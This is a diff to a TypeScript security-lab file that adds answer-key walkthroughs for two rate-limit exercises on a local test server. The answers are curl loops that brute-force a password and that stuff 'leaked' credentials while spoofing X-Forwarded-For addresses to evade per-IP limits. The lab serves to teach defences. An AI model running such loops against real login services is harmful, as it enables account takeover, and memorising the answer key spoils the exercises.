@@ -38,6 +38,32 @@ export const RATELIMIT_LAB = {
       defence:
         'After 5 failures in 15 minutes the account answers 429 with Retry-After, even to the right password, so a word list gets 5 guesses per window instead of thousands.',
       note: 'Afterwards the lab gives back the counters this run used, so your own logins are not throttled.',
+      walkthrough: {
+        goal: 'Guess your way into an account by sending wrong passwords until the right one, and see whether the server lets you keep going.',
+        steps: [
+          {
+            id: 'register',
+            task: 'Register a throwaway account to attack, with a password you choose, so no demo account gets throttled.',
+            hint: 'POST /api/auth/register takes {"email", "password"} as JSON and answers 202 whatever happens.',
+            answer:
+              'curl -s http://127.0.0.1:4010/api/auth/register -H \'content-type: application/json\' -d \'{"email": "target@ratelimit-lab.test", "password": "plum-orbit-canvas-42"}\'',
+          },
+          {
+            id: 'guess',
+            task: 'Send at least five wrong passwords for that account to POST /api/session/login, then the right one, and watch the status codes.',
+            hint: 'A loop over a few words from the word list (GET /api/lab/jwt/wordlist) does it; print only the status with -w.',
+            answer:
+              'for pw in 123456 password qwerty letmein dragon plum-orbit-canvas-42; do curl -s -o /dev/null -w \'%{http_code}\\n\' http://127.0.0.1:4010/api/session/login -H \'content-type: application/json\' -d "{\\"email\\": \\"target@ratelimit-lab.test\\", \\"password\\": \\"$pw\\"}"; done',
+          },
+          {
+            id: 'clean-up',
+            task: 'Give the failed-login counters back, so your own address is not left throttled.',
+            hint: 'The lab’s reset helper clears the failed-login counters: POST /api/lab/ratelimit/reset with {"scope": "login"}.',
+            answer:
+              'curl -s http://127.0.0.1:4010/api/lab/ratelimit/reset -H \'content-type: application/json\' -d \'{"scope": "login"}\'',
+          },
+        ],
+      },
     },
     {
       id: 'ratelimit-xff-spray',
@@ -54,6 +80,31 @@ export const RATELIMIT_LAB = {
       defence:
         'The server ignores X-Forwarded-For unless a configured proxy sent it, so all 60 requests count against this one machine: the 51st is refused.',
       note: 'Needs ratelimit.login on: with no failed-login limit at all there is nothing to walk past.',
+      walkthrough: {
+        goal: 'Send more than 50 failed logins from this one machine, each claiming a new client IP in X-Forwarded-For, and see whether the per-IP limit notices.',
+        steps: [
+          {
+            id: 'whoami',
+            task: 'Ask the server who it thinks you are while claiming another address in X-Forwarded-For.',
+            hint: 'GET /api/lab/ratelimit/client answers with the address every limit keys on.',
+            answer: "curl -s http://127.0.0.1:4010/api/lab/ratelimit/client -H 'X-Forwarded-For: 203.0.113.7'",
+          },
+          {
+            id: 'spray',
+            task: 'Stuff 55 leaked pairs into POST /api/session/login, a different account and a new X-Forwarded-For on every request, and watch for the 51st answer.',
+            hint: 'Use addresses from the documentation ranges (203.0.113.x, 198.51.100.x) and made-up accounts, so only the per-IP limit can stop you.',
+            answer:
+              'for i in $(seq 1 55); do curl -s -o /dev/null -w \'%{http_code} \' http://127.0.0.1:4010/api/session/login -H \'content-type: application/json\' -H "X-Forwarded-For: 203.0.113.$i" -d "{\\"email\\": \\"leaked-$i@breach.example\\", \\"password\\": \\"Winter2024!\\"}"; done',
+          },
+          {
+            id: 'clean-up',
+            task: 'Give the failed-login counters back, so your own address is not left throttled for 15 minutes.',
+            hint: 'POST /api/lab/ratelimit/reset with {"scope": "login"}.',
+            answer:
+              'curl -s http://127.0.0.1:4010/api/lab/ratelimit/reset -H \'content-type: application/json\' -d \'{"scope": "login"}\'',
+          },
+        ],
+      },
     },
   ],
 } as const satisfies LabDeclaration;
